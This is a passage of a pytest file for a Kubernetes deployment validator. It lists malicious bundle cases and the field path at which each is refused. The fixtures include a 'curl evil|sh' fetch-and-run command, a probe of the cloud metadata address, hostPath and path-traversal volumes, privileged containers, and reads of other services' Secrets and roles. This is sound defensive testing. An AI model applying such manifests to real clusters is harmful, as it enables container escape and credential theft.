"""Bundles that want more than their service: each is refused with its path, or comes to nothing beyond it.

The first table is /work/shared/cases/bundle_escape.py, case by case; the second one is ours.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from candlefish.catalog.model import Replicas
from candlefish.errors import InvalidInput
from candlefish.release.manifests import Workload, from_bundle
from candlefish.release.model import Manifest
from lab.kube.defaults import with_defaults
from lab.kube.kinds import KINDS
from lab.kube.schema import check
from lab.kube.validation import validate
from tests.support.manifests import PROXY, environment, service, workload
from tests.support.reach import beyond

EVIL = "docker.io/evil/x@sha256:" + "b" * 64
SERVICES = ("website", "backend-api", "api", "api-gateway", "website-blue-team", "redis")
IMAGE = "ghcr.io/example-org/website"
LIMITS = {"limits": {"cpu": "1", "memory": "1Gi"}}


def slot(**changes: Any) -> Workload:
    made = service(
        image_pull_secrets=("shared-registry",),
        name="website",
        image=IMAGE,
        port=3000,
        host="example.org",
        replicas=Replicas(min=3, max=15),
        sidecars=(PROXY,),
    )
    api = service(name="api-gateway", port=8080)
    return workload(
        **{"service": made, "slot": "green", "services": SERVICES, "dependencies": (api,), **changes}
    )


def main(**fields: Any) -> Manifest:
    ports = [{"name": "http", "containerPort": 3000}]
    return {"name": "main", "image": f"{IMAGE}:x", "ports": ports, "resources": LIMITS, **fields}


def beside(**fields: Any) -> Manifest:
    return {"name": "beside", "image": f"{PROXY}@sha256:{'c' * 64}", "resources": LIMITS, **fields}


def deployment(pod: Manifest | None = None, *, pod_metadata: Any = None, **metadata: Any) -> Manifest:
    template: Manifest = {"spec": {"containers": [main()], **(pod or {})}}
    if pod_metadata is not None:
        template["metadata"] = pod_metadata
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "website", **metadata},
        "spec": {"template": template},
    }


def one(**fields: Any) -> list[Manifest]:
    """A bundle whose service's container has these fields."""
    return [deployment({"containers": [main(**fields)]})]


def pod(**fields: Any) -> list[Manifest]:
    return [deployment(fields)]


def volume(**source: Any) -> list[Manifest]:
    return pod(volumes=[{"name": "v", **source}])


def extra(kind: str, name: Any = "website", api: str = "v1", **fields: Any) -> list[Manifest]:
    return [deployment(), {"apiVersion": api, "kind": kind, "metadata": {"name": name}, **fields}]


def noted(kind: str, **notes: str) -> Manifest:
    return {"apiVersion": "v1", "kind": kind, "metadata": {"name": "website", "annotations": notes}}


def served(**spec: Any) -> list[Manifest]:
    return extra("Service", spec={"ports": [{"port": 3000}], **spec})


def policy(**spec: Any) -> list[Manifest]:
    return extra("NetworkPolicy", api="networking.k8s.io/v1", spec={"podSelector": {}, **spec})


def scaled(**spec: Any) -> list[Manifest]:
    return extra("HorizontalPodAutoscaler", api="autoscaling/v2", spec={"maxReplicas": 3, **spec})


def budget(**spec: Any) -> list[Manifest]:
    return extra("PodDisruptionBudget", api="policy/v1", spec=spec)


ROLE = "eks.amazonaws.com/role-arn"
NODE_AFFINITY = "requiredDuringSchedulingIgnoredDuringExecution"
# What the file shows, with the path at which it is refused; nothing where it comes to nothing.
SHOWN: dict[str, tuple[list[Manifest], str]] = {
    "ServiceAccount with another IAM role": (
        [
            deployment({"serviceAccountName": "website"}),
            noted("ServiceAccount", **{ROLE: "arn:aws:iam::3:role/b"}),
        ],
        rf"metadata.annotations\['{ROLE}'\]",
    ),
    "another service's ServiceAccount, overwritten": (
        [deployment({"serviceAccountName": "backend-api"}), *extra("ServiceAccount", "backend-api")[1:]],
        "ServiceAccount backend-api: metadata.name",
    ),
    "Pods under another service's ServiceAccount": (
        [deployment({"serviceAccountName": "backend-api"}), *extra("ServiceAccount")[1:]],
        "spec.serviceAccountName",
    ),
    "Pods under another service's ServiceAccount, no SA in the bundle": (
        pod(serviceAccountName="backend-api"),
        "spec.serviceAccountName",
    ),
    "deprecated serviceAccount field": (
        pod(serviceAccount="backend-api"),
        "spec.serviceAccount is not allowed",
    ),
    "automountServiceAccountToken true": (
        pod(automountServiceAccountToken=True),
        "automountServiceAccountToken",
    ),
    "projected token for sts": (
        volume(
            projected={"sources": [{"serviceAccountToken": {"audience": "sts.amazonaws.com", "path": "t"}}]}
        ),
        r"volumes\[0\].projected.sources\[0\].serviceAccountToken",
    ),
    "sidecar from a foreign registry by digest": (
        pod(containers=[main(), beside(image=EVIL)]),
        r"containers\[1\].image is from docker.io/evil/x",
    ),
    "initContainer from a foreign registry by digest": (
        pod(initContainers=[beside(image=EVIL)]),
        r"initContainers\[0\].image is from docker.io/evil/x",
    ),
    "initContainer by tag": (
        pod(initContainers=[beside(image="busybox:latest")]),
        r"initContainers\[0\].image",
    ),
    "digest look-alike (x@sha256:short)": (
        pod(initContainers=[beside(image="evil/x:latest@sha256:")]),
        r"initContainers\[0\].image",
    ),
    "ephemeralContainers": (
        pod(ephemeralContainers=[beside(securityContext={"privileged": True})]),
        "spec.ephemeralContainers",
    ),
    "env from a Secret of another service": (
        one(envFrom=[{"secretRef": {"name": "backend-api-db"}}]),
        r"containers\[0\].envFrom\[0\].secretRef.name",
    ),
    "volume from a Secret": (volume(secret={"secretName": "tls"}), r"volumes\[0\].secret.secretName"),
    "hostPath": (volume(hostPath={"path": "/"}), r"volumes\[0\].hostPath"),
    "hostPath via CSI / flexVolume / nfs / iscsi": (
        volume(csi={"driver": "secrets-store.csi.k8s.io"}, nfs={"server": "10.0.0.1", "path": "/"}),
        r"volumes\[0\].csi",
    ),
    "PVC of another service": (
        volume(persistentVolumeClaim={"claimName": "backend-api-data"}),
        r"volumes\[0\].persistentVolumeClaim.claimName",
    ),
    "hostNetwork": (pod(hostNetwork=True), "spec.hostNetwork"),
    "hostPort": (
        one(ports=[{"containerPort": 3000, "hostPort": 443}]),
        r"containers\[0\].ports\[0\].hostPort",
    ),
    "hostUsers / shareProcessNamespace": (pod(shareProcessNamespace=True), "spec.shareProcessNamespace"),
    "privileged": (one(securityContext={"privileged": True}), "securityContext.privileged"),
    "allowPrivilegeEscalation as text 'true'": (
        one(securityContext={"allowPrivilegeEscalation": "true"}),
        "securityContext.allowPrivilegeEscalation",
    ),
    "seccomp Unconfined": (
        pod(securityContext={"seccompProfile": {"type": "Unconfined"}}),
        "spec.securityContext.seccompProfile.type",
    ),
    "container seccomp Unconfined": (
        one(securityContext={"seccompProfile": {"type": "Unconfined"}}),
        r"containers\[0\].securityContext.seccompProfile.type",
    ),
    "procMount Unmasked": (one(securityContext={"procMount": "Unmasked"}), "securityContext.procMount"),
    "capabilities: drop nothing": (
        one(securityContext={"capabilities": {"drop": []}}),
        "securityContext.capabilities.drop",
    ),
    "readOnlyRootFilesystem false": (
        one(securityContext={"readOnlyRootFilesystem": False}),
        "securityContext.readOnlyRootFilesystem",
    ),
    "container runAsUser 0": (
        one(securityContext={"runAsUser": 0}),
        r"containers\[0\].securityContext.runAsUser",
    ),
    "pod runAsUser '0' text": (pod(securityContext={"runAsUser": "0"}), "spec.securityContext.runAsUser"),
    "unsafe sysctl": (
        pod(securityContext={"sysctls": [{"name": "kernel.msgmax", "value": "1"}]}),
        r"securityContext.sysctls\[0\].name",
    ),
    "priorityClassName system-node-critical": (
        pod(priorityClassName="system-node-critical"),
        "spec.priorityClassName",
    ),
    "tolerates everything (control plane nodes, production from spot)": (
        pod(tolerations=[{"operator": "Exists"}], affinity={}),
        r"spec.tolerations\[0\] has no key",
    ),
    "schedulerName": (pod(schedulerName="evil"), "spec.schedulerName"),
    "runtimeClassName": (pod(runtimeClassName="privileged"), "spec.runtimeClassName"),
    "dnsConfig to a foreign resolver": (
        pod(dnsConfig={"nameservers": ["6.6.6.6"]}, dnsPolicy="None"),
        "spec.dnsConfig",
    ),
    "hostAliases": (
        pod(hostAliases=[{"ip": "6.6.6.6", "hostnames": ["api.example.org"]}]),
        "spec.hostAliases is not allowed",
    ),
    "pod labels of another service (its Services and policies select it)": (
        [deployment(pod_metadata={"labels": {"candlefish.ai/service": "backend-api", "app": "backend-api"}})],
        r"spec.template.metadata.labels\['candlefish.ai/service'\]",
    ),
    "ConfigMap that ends up with another's name": (
        extra("ConfigMap", "backend-api-config", data={"a": "b"}),
        "ConfigMap backend-api-config: metadata.name",
    ),
    "ConfigMap named to hit a fixed name (kube-root-ca.crt)": (
        extra("ConfigMap", "kube-root-ca.crt", data={}),
        "metadata.name kube-root-ca.crt is not website's",
    ),
    "second Service with another service's slot name": (
        [*served(), *extra("Service", "backend-api", spec={"ports": [{"port": 80}]})[1:]],
        "Service backend-api: metadata.name",
    ),
    "Service externalIPs (CVE-2020-8554)": (served(externalIPs=["10.0.0.5"]), "spec.externalIPs"),
    "Service LB annotations": (
        [
            deployment(),
            {**noted("Service", **{"external-dns.alpha.kubernetes.io/hostname": "x"}), "spec": {}},
        ],
        "metadata.annotations",
    ),
    "NetworkPolicy that opens everything": (
        policy(ingress=[{}], egress=[{}]),
        r"spec.ingress\[0\] has no ports",
    ),
    # It selects the slot's Pods, whatever it says, and its rules are bounded.
    "NetworkPolicy with matchExpressions": (
        policy(podSelector={"matchExpressions": [{"key": "a", "operator": "DoesNotExist"}]}),
        "",
    ),
    "other namespace": ([deployment(namespace="kube-system")], "metadata.namespace is 'kube-system'"),
    # Charts leave it empty; the environment's is written.
    "namespace null": ([deployment(namespace=None)], ""),
    "ownerReferences / finalizers in metadata": (
        [deployment(ownerReferences=[{"kind": "Node"}], finalizers=["x/y"])],
        "metadata.ownerReferences",
    ),
    "path traversal in a name": (
        extra("ConfigMap", "../../../namespaces/kube-system/configmaps/x"),
        "metadata.name",
    ),
    "query in a name": (extra("ConfigMap", "x?force=true&"), "metadata.name"),
    "ClusterRole": (
        extra("ClusterRole", api="rbac.authorization.k8s.io/v1"),
        "ClusterRole website: not allowed",
    ),
    "List that hides a Role": (extra("List", items=[{"kind": "ClusterRole"}]), "List website: not allowed"),
    "MutatingWebhookConfiguration": (extra("MutatingWebhookConfiguration"), "not allowed"),
    "TargetGroupBinding": (extra("TargetGroupBinding", api="elbv2.k8s.aws/v1beta1"), "not allowed"),
    "Secret": (extra("Secret"), "Secrets Manager"),
    "a container with the same repository but other path (prefix)": (
        pod(containers=[main(), beside(image=f"{IMAGE}-evil@sha256:{'c' * 64}")]),
        "image is from ghcr.io/example-org/website-evil",
    ),
    # A command has the account, the image and the network of its service, like the image's own.
    "pre-start command replaced (command/args/env from the bundle)": (
        one(command=["/bin/sh", "-c", "curl evil|sh"]),
        "",
    ),
    "imagePullSecrets of another": (
        pod(imagePullSecrets=[{"name": "prod-registry"}]),
        r"imagePullSecrets\[0\].name",
    ),
    # The range is the catalog's, whatever a chart says.
    "minReplicas by HPA behaviour / external metrics": (scaled(maxReplicas=1000, minReplicas=500), ""),
    "PDB maxUnavailable 0 (nodes cannot drain)": (budget(maxUnavailable=0), "spec.maxUnavailable"),
    "terminationGracePeriod of a day": (
        pod(terminationGracePeriodSeconds=86400),
        "spec.terminationGracePeriodSeconds",
    ),
    "1000 ConfigMaps": (
        [deployment(), *(extra("ConfigMap", f"website-{i}")[1] for i in range(1000))],
        "it holds 1001 objects",
    ),
}


def probe(**way: Any) -> list[Manifest]:
    return one(livenessProbe=way)


def anti(**term: Any) -> list[Manifest]:
    rules = {NODE_AFFINITY: [{"topologyKey": "kubernetes.io/hostname", **term}]}
    return pod(affinity={"podAntiAffinity": rules})


def node(key: str, *values: str, operator: str = "In") -> list[Manifest]:
    expressions = [{"key": key, "operator": operator, "values": list(values)}]
    terms = {"nodeSelectorTerms": [{"matchExpressions": expressions}]}
    return pod(affinity={"nodeAffinity": {NODE_AFFINITY: terms}})


def metric(**fields: Any) -> list[Manifest]:
    return scaled(metrics=[fields])


def labelled(**labels: Any) -> list[Manifest]:
    return [
        deployment(pod_metadata={"labels": {key.replace("__", "/"): value for key, value in labels.items()}})
    ]


def configs(*names: str) -> list[Manifest]:
    return [deployment(), *(extra("ConfigMap", name)[1] for name in names)]


OURS: dict[str, tuple[list[Manifest], str]] = {
    # Names and who they belong to.
    "a name in capitals": (configs("Website-x"), "metadata.name"),
    "a name that looks the same (Cyrillic e)": (
        configs("websit\u0435-x"),
        r"metadata.name is 'websit\\u0435-x'",
    ),
    "a name with a full-width hyphen": (configs("website\uff0dx"), "metadata.name"),
    "a name with a zero-width space": (configs("website-\u200bx"), "metadata.name"),
    "a name with a newline at its end": (configs("website-x\n"), "metadata.name"),
    "a name with a null byte": (configs("website-x\0"), "metadata.name"),
    "a name of dots": (configs("website-x.."), "metadata.name"),
    "a name that goes up": (configs("website-x/../backend-api"), "metadata.name"),
    "a name encoded twice": (configs("website-%252e%252e"), "metadata.name"),
    "a name without measure": (configs("website-" + "x" * 300), "metadata.name"),
    "an empty name": (configs(""), "metadata.name"),
    "a number as a name": (configs(7), "not a Kubernetes object"),  # type: ignore[arg-type]
    "a service's name as a beginning without a hyphen": (configs("websites"), "is not website's"),
    "a service's name with a dot behind it": (configs("website.x"), "is not website's"),
    "a nobody's name": (configs("settings"), "is not website's"),
    "a longer service whose name begins with this one's": (configs("website-blue-team-x"), "metadata.name"),
    "two objects of one name": (configs("website-x", "website-x"), "two objects that would be this one"),
    "a third account": (
        [*extra("ServiceAccount"), extra("ServiceAccount", "website-x")[1]],
        "2 of kind ServiceAccount",
    ),
    "an account of a name nobody has": (pod(serviceAccountName="admin"), "serviceAccountName"),
    "an extra Service of a nobody's name": (
        [*served(), extra("Service", "kubernetes", spec={"ports": [{"port": 443}]})[1]],
        "metadata.name kubernetes is not website's",
    ),
    "an extra Service with a name that is too long": (
        [*served(), extra("Service", "website-" + "x" * 52, spec={"ports": [{"port": 443}]})[1]],
        "no Service's name",
    ),
    "a Deployment called like another service's": (
        [{**deployment(), "metadata": {"name": "backend-api"}}],
        "Deployment backend-api: metadata.name",
    ),
    "an autoscaler of another Deployment": (
        scaled(scaleTargetRef={"apiVersion": "apps/v1", "kind": "Deployment", "name": "backend-api-blue"}),
        "spec.scaleTargetRef.name",
    ),
    "an autoscaler of another kind": (
        scaled(scaleTargetRef={"apiVersion": "v1", "kind": "Node", "name": "website"}),
        "spec.scaleTargetRef",
    ),
    # Metadata and controllers of others.
    "a generated name": ([deployment(generateName="x-")], "generateName"),
    "a uid": ([deployment(uid="1")], "metadata.uid"),
    "managed fields": ([deployment(managedFields=[{"manager": "x"}])], "metadata.managedFields"),
    "a resource version": ([deployment(resourceVersion="1")], "metadata.resourceVersion"),
    "a self link": ([deployment(selfLink="/x")], "metadata.selfLink"),
    "the generation of the control plane": (
        [deployment(annotations={"candlefish.ai/generation": "999"})],
        r"annotations\['candlefish.ai/generation'\]",
    ),
    "a label of the control plane on a ConfigMap": (
        [
            *configs(),
            {
                **configs("website-x")[1],
                "metadata": {"name": "website-x", "labels": {"candlefish.ai/slot": "blue"}},
            },
        ],
        r"labels\['candlefish.ai/slot'\]",
    ),
    "a case variant of the control plane's label": (
        labelled(**{"Candlefish.ai__service": "x"}),
        "metadata.labels",
    ),
    "the last applied configuration": (
        [deployment(annotations={"kubectl.kubernetes.io/last-applied-configuration": "{}"})],
        "last-applied",
    ),
    "an injected sidecar": (labelled(**{"sidecar.istio.io__inject": "true"}), "sidecar.istio.io/inject"),
    "a readiness gate of the load balancer": (
        labelled(**{"elbv2.k8s.aws__pod-readiness-gate-inject": "enabled"}),
        "metadata.labels",
    ),
    "a Pod that keeps its node": (
        [deployment(pod_metadata={"annotations": {"karpenter.sh/do-not-disrupt": "true"}})],
        "karpenter.sh/do-not-disrupt",
    ),
    "a Pod that keeps its node from the autoscaler": (
        [
            deployment(
                pod_metadata={"annotations": {"cluster-autoscaler.kubernetes.io/safe-to-evict": "false"}}
            )
        ],
        "safe-to-evict",
    ),
    "AppArmor switched off by annotation": (
        [
            deployment(
                pod_metadata={
                    "annotations": {"container.apparmor.security.beta.kubernetes.io/main": "unconfined"}
                }
            )
        ],
        "apparmor",
    ),
    "seccomp switched off by annotation": (
        [
            deployment(
                pod_metadata={"annotations": {"seccomp.security.alpha.kubernetes.io/pod": "unconfined"}}
            )
        ],
        "seccomp",
    ),
    "a security group by annotation": (
        [deployment(pod_metadata={"annotations": {"vpc.amazonaws.com/pod-eni": "x"}})],
        "pod-eni",
    ),
    "a prefix that only begins like an allowed one": (
        labelled(**{"app.kubernetes.io.evil.example__name": "x"}),
        "metadata.labels",
    ),
    "an allowed prefix whose dots are other letters": (
        [deployment(annotations={"prometheusXio/scrape": "true"})],
        "prometheusXio",
    ),
    "another service's name as `app`": (labelled(app="backend-api"), r"metadata.labels.app is 'backend-api'"),
    "another service's name in capitals": (labelled(app="Backend-API"), "metadata.labels.app"),
    "another service's slot as `component`": (
        labelled(component="api-gateway-blue"),
        "metadata.labels.component",
    ),
    "another service's name as `app.kubernetes.io/name`": (
        labelled(**{"app.kubernetes.io__name": "redis"}),
        "metadata.labels",
    ),
    "a number as a label": (labelled(app=1), "metadata.labels.app is 1"),
    "annotations as a number": ([deployment(annotations=5)], "metadata.annotations is 5"),
    "annotations as text": (
        [deployment(annotations="helm.sh/hook")],
        "metadata.annotations is 'helm.sh/hook'",
    ),
    "labels as a list": ([deployment(labels=["a"])], "metadata.labels is a list"),
    "a Service that monitoring takes for another's": (
        [deployment(), {**served()[1], "metadata": {"name": "website", "labels": {"app": "backend-api"}}}],
        "Service website: metadata.labels.app",
    ),
    # Images.
    "an image of the service with a name in front": (
        pod(containers=[main(), beside(image=f"evil.example/{IMAGE}@sha256:{'c' * 64}")]),
        "image is from evil.example",
    ),
    "an image with its digest in capitals": (
        pod(containers=[main(), beside(image=f"{PROXY}@sha256:{'C' * 64}")]),
        r"containers\[1\].image",
    ),
    "an image with something behind its digest": (
        pod(containers=[main(), beside(image=f"{PROXY}@sha256:{'c' * 64}\n")]),
        r"containers\[1\].image",
    ),
    "an image with two digests": (
        pod(containers=[main(), beside(image=f"{PROXY}@sha256:{'c' * 64}@sha256:{'d' * 64}")]),
        r"containers\[1\].image",
    ),
    "an image of another algorithm": (
        pod(containers=[main(), beside(image=f"{PROXY}@sha512:{'c' * 128}")]),
        r"containers\[1\].image",
    ),
    "a sidecar's repository in capitals": (
        pod(containers=[main(), beside(image=f"{PROXY.upper()}@sha256:{'c' * 64}")]),
        r"containers\[1\].image",
    ),
    "a sidecar by tag": (pod(containers=[main(), beside(image=f"{PROXY}:1")]), "which can change"),
    "no image": (
        pod(containers=[main(), {"name": "x", "resources": LIMITS}]),
        r"containers\[1\] has no image",
    ),
    "an image that is no text": (pod(containers=[main(), beside(image=["x"])]), r"containers\[1\].image"),
    "two containers that are the service": (pod(containers=[main(), main(name="b")]), "2 containers from"),
    "an image as a volume": (volume(image={"reference": EVIL}), r"volumes\[0\].image"),
    # Secrets, tokens, volumes.
    "a Secret of a service whose name begins like ours": (
        volume(secret={"secretName": "website-blue-team-db"}),
        "secret.secretName",
    ),
    "a key of another's Secret": (
        one(env=[{"name": "A", "valueFrom": {"secretKeyRef": {"name": "redis", "key": "password"}}}]),
        r"env\[0\].valueFrom.secretKeyRef.name",
    ),
    "another's Secret, projected": (
        volume(projected={"sources": [{"secret": {"name": "backend-api-db"}}]}),
        r"sources\[0\].secret.name",
    ),
    "a ConfigMap that is not in the bundle": (
        one(envFrom=[{"configMapRef": {"name": "backend-api-config-blue"}}]),
        "configMapRef.name",
    ),
    "a ConfigMap of the cluster's": (volume(configMap={"name": "kube-root-ca.crt"}), "configMap.name"),
    "the trust bundle of the cluster": (
        volume(projected={"sources": [{"clusterTrustBundle": {"name": "x", "path": "p"}}]}),
        "clusterTrustBundle",
    ),
    "a certificate for the Pod": (
        volume(
            projected={"sources": [{"podCertificate": {"signerName": "kubernetes.io/kube-apiserver-client"}}]}
        ),
        "podCertificate",
    ),
    "two sources in one volume": (
        volume(emptyDir={}, secret={"secretName": "website-x"}),
        "emptyDir and secret",
    ),
    "a volume without a source": (volume(emptyDir=None), "write exactly one"),
    "a projected path that goes up": (
        [
            *volume(configMap={"name": "website-x", "items": [{"key": "k", "path": "../../etc/passwd"}]}),
            configs("website-x")[1],
        ],
        r"items\[0\].path",
    ),
    "an absolute projected path": (
        volume(secret={"secretName": "website-x", "items": [{"key": "k", "path": "/etc/passwd"}]}),
        r"items\[0\].path",
    ),
    "a set-uid file from a ConfigMap": (
        [*volume(configMap={"name": "website-x", "defaultMode": 0o4755}), configs("website-x")[1]],
        "defaultMode",
    ),
    "subPath that goes up": (
        one(volumeMounts=[{"name": "v", "mountPath": "/x", "subPath": "a/../../b"}]),
        r"volumeMounts\[0\].subPath",
    ),
    "subPathExpr": (
        one(volumeMounts=[{"name": "v", "mountPath": "/x", "subPathExpr": "$(A)"}]),
        "subPathExpr",
    ),
    "mounts that spread to the node": (
        one(volumeMounts=[{"name": "v", "mountPath": "/x", "mountPropagation": "Bidirectional"}]),
        "mountPropagation",
    ),
    "a block device": (one(volumeDevices=[{"name": "v", "devicePath": "/dev/xvda"}]), "volumeDevices"),
    "an emptyDir as large as the node": (volume(emptyDir={"sizeLimit": "10Ti"}), "emptyDir.sizeLimit"),
    "huge pages": (volume(emptyDir={"medium": "HugePages"}), "emptyDir.medium"),
    "a claim made by the Pod": (volume(ephemeral={"volumeClaimTemplate": {}}), r"volumes\[0\].ephemeral"),
    "a Portworx volume": (volume(portworxVolume={"volumeID": "x"}), "portworxVolume"),
    "a hostPath in other letters": (volume(hostpath={"path": "/"}), "hostpath"),
    # What the node would do.
    "a probe of the metadata service": (
        probe(httpGet={"host": "169.254.169.254", "path": "/latest/meta-data/", "port": 80}),
        "livenessProbe.httpGet.host",
    ),
    "a TCP probe of another host": (probe(tcpSocket={"host": "10.0.0.1", "port": 22}), "tcpSocket.host"),
    "a hook that asks another host": (
        one(lifecycle={"postStart": {"httpGet": {"host": "10.0.0.1", "port": 80}}}),
        "lifecycle.postStart.httpGet.host",
    ),
    "a hook through TCP": (
        one(lifecycle={"preStop": {"tcpSocket": {"host": "x", "port": 1}}}),
        "preStop.tcpSocket",
    ),
    "a probe of two kinds": (
        probe(exec={"command": ["a"]}, httpGet={"port": 1}),
        "exactly one|httpGet and exec",
    ),
    "a port as text": (probe(httpGet={"port": "80"}), "httpGet.port"),
    "a probe's scheme": (probe(httpGet={"port": 80, "scheme": "file"}), "httpGet.scheme"),
    "a hook that sleeps for a day": (
        one(lifecycle={"preStop": {"sleep": {"seconds": 86400}}}),
        "sleep.seconds",
    ),
    "a probe that keeps a Pod for a day": (
        probe(httpGet={"port": 80}, terminationGracePeriodSeconds=86400),
        "terminationGracePeriodSeconds",
    ),
    "the node's address": (
        one(env=[{"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "status.hostIP"}}}]),
        "fieldRef.fieldPath",
    ),
    "a port of the node's address": (one(ports=[{"containerPort": 3000, "hostIP": "0.0.0.0"}]), "hostIP"),
    "an annotation by a path that goes on": (
        one(env=[{"name": "A", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['a']['b']"}}}]),
        "fieldRef.fieldPath",
    ),
    "a terminal": (one(stdin=True, tty=True), "stdin"),
    "limits of another name": (
        one(resources={"limits": {"cpu": "1", "memory": "1Gi", "nvidia.com/gpu": 8}}),
        r"limits\['nvidia.com/gpu'\]",
    ),
    "limits without measure": (one(resources={"limits": {"cpu": "1E99", "memory": "1Gi"}}), "limits.cpu"),
    "a limit in digits of another script": (one(resources={"limits": {"cpu": "\u0661"}}), "limits.cpu"),
    "negative requests": (one(resources={"requests": {"cpu": -1}}), "requests.cpu"),
    "a claim of devices": (one(resources={"claims": [{"name": "x"}]}), "resources.claims"),
    "devices of the Pod": (pod(resourceClaims=[{"name": "x"}]), "spec.resourceClaims"),
    "overhead": (pod(overhead={"cpu": "1"}), "spec.overhead"),
    # Security contexts.
    "SELinux options": (pod(securityContext={"seLinuxOptions": {"type": "spc_t"}}), "seLinuxOptions"),
    "a Windows host process": (
        pod(securityContext={"windowsOptions": {"hostProcess": True}}),
        "windowsOptions",
    ),
    "AppArmor switched off": (
        one(securityContext={"appArmorProfile": {"type": "Unconfined"}}),
        "appArmorProfile.type",
    ),
    "a seccomp profile of the node": (
        pod(securityContext={"seccompProfile": {"type": "Localhost", "localhostProfile": "x.json"}}),
        "seccompProfile",
    ),
    "group root": (pod(securityContext={"runAsGroup": 0}), "runAsGroup"),
    "files of group root": (pod(securityContext={"fsGroup": 0}), "fsGroup"),
    "root among other groups": (pod(securityContext={"supplementalGroups": [0]}), r"supplementalGroups\[0\]"),
    "a negative user": (pod(securityContext={"runAsUser": -1}), "runAsUser"),
    "true as a user": (pod(securityContext={"runAsUser": True}), "runAsUser"),
    "a user that is half one": (pod(securityContext={"runAsUser": 0.5}), "runAsUser"),
    "1 instead of true": (pod(securityContext={"runAsNonRoot": 1}), "runAsNonRoot"),
    "0 instead of false": (one(securityContext={"privileged": 0}), "privileged"),
    "'false' instead of false": (pod(hostNetwork="false"), "hostNetwork"),
    "capabilities dropped but for ALL": (
        one(securityContext={"capabilities": {"drop": ["NET_RAW"]}}),
        "capabilities.drop",
    ),
    "ALL and one back": (
        one(securityContext={"capabilities": {"drop": ["ALL"], "add": ["SYS_ADMIN"]}}),
        r"capabilities.add\[0\]",
    ),
    "a capability with its prefix": (
        one(securityContext={"capabilities": {"add": ["CAP_NET_BIND_SERVICE"]}}),
        r"capabilities.add\[0\]",
    ),
    "an init container with rights": (
        pod(initContainers=[beside(securityContext={"privileged": True})]),
        r"initContainers\[0\].securityContext.privileged",
    ),
    "a context that is a list": (pod(securityContext=[]), "securityContext is a list"),
    "user namespaces of the node": (pod(hostUsers=True), "spec.hostUsers"),
    # Nodes, others' Pods, ranks.
    "a node by name": (pod(nodeName="ip-10-0-0-1"), "spec.nodeName"),
    "a node by its host name": (pod(nodeSelector={"kubernetes.io/hostname": "ip-10-0-0-1"}), "nodeSelector"),
    "control plane nodes": (pod(nodeSelector={"node-role.kubernetes.io/control-plane": ""}), "nodeSelector"),
    "spot in production": (pod(nodeSelector={"eks.amazonaws.com/capacityType": "SPOT"}), "nodeSelector"),
    "a node by affinity": (node("kubernetes.io/hostname", "ip-10-0-0-1"), r"matchExpressions\[0\].key"),
    "a node by a field": (
        pod(affinity={"nodeAffinity": {NODE_AFFINITY: {"nodeSelectorTerms": [{"matchFields": []}]}}}),
        "matchFields",
    ),
    "a toleration of control plane nodes": (
        pod(tolerations=[{"key": "node-role.kubernetes.io/control-plane", "operator": "Exists"}]),
        r"tolerations\[0\].key",
    ),
    "a toleration of spot in production": (
        pod(tolerations=[{"key": "eks.amazonaws.com/capacityType", "value": "SPOT"}]),
        r"tolerations\[0\].key",
    ),
    "an empty toleration key": (
        pod(tolerations=[{"key": "", "operator": "Exists"}]),
        r"tolerations\[0\].key",
    ),
    "others' Pods kept away": (
        anti(labelSelector={"matchLabels": {"app": "backend-api"}}),
        "does not select the Deployment's own Pods",
    ),
    "others' Pods kept away, in other namespaces": (
        anti(labelSelector={}, namespaceSelector={}),
        "namespaceSelector",
    ),
    "a topology that is the whole cluster": (
        anti(labelSelector={}, topologyKey="kubernetes.io/os"),
        "topologyKey",
    ),
    "near to others' Pods": (pod(affinity={"podAffinity": {}}), "podAffinity"),
    "spread by others' Pods": (
        pod(
            topologySpreadConstraints=[
                {
                    "maxSkew": 1,
                    "topologyKey": "kubernetes.io/hostname",
                    "whenUnsatisfiable": "DoNotSchedule",
                    "labelSelector": {"matchLabels": {"app": "backend-api"}},
                }
            ]
        ),
        "does not select the Deployment's own Pods",
    ),
    "a rank by number": (pod(priority=2000001000), "spec.priority"),
    "a preemption policy": (pod(preemptionPolicy="PreemptLowerPriority"), "preemptionPolicy"),
    "a rank of a class": (pod(priorityClassName="high"), "priorityClassName"),
    "a gate of scheduling": (pod(schedulingGates=[{"name": "x"}]), "schedulingGates"),
    "a name in another's headless Service": (pod(hostname="a", subdomain="redis"), "spec.hostname"),
    "names from the node": (pod(dnsPolicy="Default"), "dnsPolicy"),
    "names from the node's network": (pod(dnsPolicy="ClusterFirstWithHostNet"), "dnsPolicy"),
    "a restart policy for a container": (one(restartPolicy="Never"), "restartPolicy"),
    "an init container's restart policy": (
        pod(initContainers=[beside(restartPolicy="OnFailure")]),
        "restartPolicy",
    ),
    "a deadline for Pods": (pod(activeDeadlineSeconds=1), "activeDeadlineSeconds"),
    # Services, policies, scaling, eviction.
    "a load balancer": (served(type="LoadBalancer"), "spec.type"),
    "a port of every node": (served(type="NodePort"), "spec.type"),
    "a node port in the port": (served(ports=[{"port": 3000, "nodePort": 30080}]), r"ports\[0\].nodePort"),
    "a name that leads elsewhere": (served(type="ExternalName", externalName="evil.example"), "spec.type"),
    "an external name alone": (served(externalName="evil.example"), "spec.externalName"),
    "the cluster DNS's address": (served(clusterIP="10.100.0.10"), "spec.clusterIP"),
    "addresses in the plural": (served(clusterIPs=["10.100.0.10"]), "spec.clusterIPs"),
    "sources of a load balancer": (
        served(loadBalancerSourceRanges=["0.0.0.0/0"]),
        "loadBalancerSourceRanges",
    ),
    "others' Pods behind the Service": (served(selector={"app": "backend-api"}), "spec.selector"),
    "a Service with the control plane's selector": (
        served(selector={"candlefish.ai/service": "backend-api"}),
        "spec.selector",
    ),
    "Pods that are not ready": (served(publishNotReadyAddresses=True), "publishNotReadyAddresses"),
    "a policy of others' Pods": (policy(podSelector={"matchLabels": {"app": "backend-api"}}), "podSelector"),
    "a policy in from everywhere": (policy(ingress=[{"from": []}]), r"ingress\[0\] has no ports"),
    "a policy in through every port": (policy(ingress=[{"ports": []}]), "opens every port"),
    "a policy in through a port that nobody has": (policy(ingress=[{"ports": [{"port": 22}]}]), "opens 22"),
    "a policy in through a range": (policy(ingress=[{"ports": [{"port": 1, "endPort": 65535}]}]), "endPort"),
    "a policy out to everywhere": (policy(egress=[{}]), r"egress\[0\] has no ports"),
    "a policy out to everywhere by a port": (policy(egress=[{"ports": [{"port": 5432}]}]), "egress"),
